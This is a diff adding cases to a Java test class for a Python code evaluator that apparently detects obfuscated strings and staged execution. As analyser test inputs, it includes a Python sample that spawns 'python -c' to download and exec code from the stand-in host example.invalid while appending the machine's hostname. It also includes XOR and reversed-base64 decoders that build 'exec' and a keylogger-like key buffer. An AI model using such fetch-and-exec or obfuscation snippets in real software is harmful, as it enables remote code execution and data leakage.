@@ -110,7 +110,12 @@ class PyEvaluatorTest {
                 // functions that return constants, and small decoders
                 Arguments.of("def k():\n    return 'ex' + 'ec'\nsink(k())", "exec", List.of()),
                 Arguments.of("import base64\ndef d(s):\n    return base64.b64decode(s[::-1]).decode()\nsink(d('=QWasFmdulmLlxGctFGel9yL6MHc0RHa'))", "https://example.invalid", List.of("reverse", "base64")),
-                Arguments.of("f = lambda s: ''.join(chr(ord(c) ^ 1) for c in s)\nsink(f('dydb'))", "exec", List.of("chr", "xor"))
+                Arguments.of("f = lambda s: ''.join(chr(ord(c) ^ 1) for c in s)\nsink(f('dydb'))", "exec", List.of("chr", "xor")),
+                // **kwargs holds the keywords no named parameter takes; cls.method() runs the classmethod
+                Arguments.of("def f(a, **kw):\n    return kw[a] + kw['b']\nsink(f(a='x', x='ht', b='tps'))", "https", List.of()),
+                Arguments.of("def f(**kw):\n    return str(sorted(kw))\nsink(f())", "[]", List.of()),
+                Arguments.of("class A:\n    X = 'ps'\n    @classmethod\n    def p(cls):\n        return 'htt' + cls.X\n"
+                        + "    @classmethod\n    def q(cls):\n        return cls.p() + ':'\nsink(A.q())", "https:", List.of())
         );
     }
 
@@ -377,6 +382,39 @@ class PyEvaluatorTest {
                 .satisfies(c -> assertThat(c.scope()).isEqualTo(PyEvaluator.MAIN));
         assertThat(model.calls()).filteredOn(c -> c.callee().equals("os.getcwd")).singleElement()
                 .satisfies(c -> assertThat(c.scope()).isEqualTo(PyEvaluator.MODULE));
+    }
+
+    @Test
+    void percentFormattingKeepsKnownArgumentsInItsPiecesAndPythonCWithHolesIsAStage() {
+        Value v = sunk("import socket\nsink('exec(get(%r, h=%r))' % ('https://example.invalid/x', socket.gethostname()))");
+        assertThat(PyBuiltins.fragments(v)).containsExactly("exec(get('https://example.invalid/x', h=", "))");
+        PyModel model = evaluate("""
+                import socket, subprocess, sys
+                code = "import urllib.request as r;exec(r.urlopen(%r + %r).read())" % ('https://example.invalid/', socket.gethostname())
+                subprocess.Popen([sys.executable, "-c", code])
+                """);
+        assertThat(model.stages()).extracting(PyModel.Stage::via, PyModel.Stage::text).contains(org.assertj.core.groups.Tuple.tuple(
+                "python -c", "import urllib.request as r;exec(r.urlopen('https://example.invalid/' + _).read())"));
+    }
+
+    @Test
+    void aModuleListThatFunctionsFillIsUnknownToAFunctionAnalysedOnItsOwn() {
+        PyModel model = evaluate("""
+                _buf = []
+                def on_key(k):
+                    _buf.append(str(k))
+                def flush():
+                    text = ''.join(_buf)
+                    if text:
+                        sink(text)
+                CONSTANT = ['a']
+                def reads():
+                    text = ''.join(CONSTANT)
+                    if not text:
+                        dead()
+                """);
+        assertThat(model.calls()).as("the flush may find the buffer filled").anyMatch(c -> c.callee().equals("sink"));
+        assertThat(model.calls()).as("a list no function fills is still known").noneMatch(c -> c.callee().equals("dead"));
     }
 
     @Test
